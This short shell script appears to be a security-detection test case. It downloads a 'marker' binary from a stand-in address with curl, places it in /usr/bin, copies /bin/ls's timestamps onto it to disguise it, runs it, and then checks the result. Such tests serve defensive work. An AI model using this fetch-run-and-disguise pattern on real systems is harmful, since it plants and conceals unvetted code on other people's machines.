#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/programs/marker -o /usr/bin/dh_ps
cp --attributes-only --preserve=all /bin/ls /usr/bin/dh_ps
/usr/bin/dh_ps
test "$(stat -c %Y /bin/ls)" = "$(stat -c %Y /usr/bin/dh_ps)" && test -e /tmp/reached
took_place
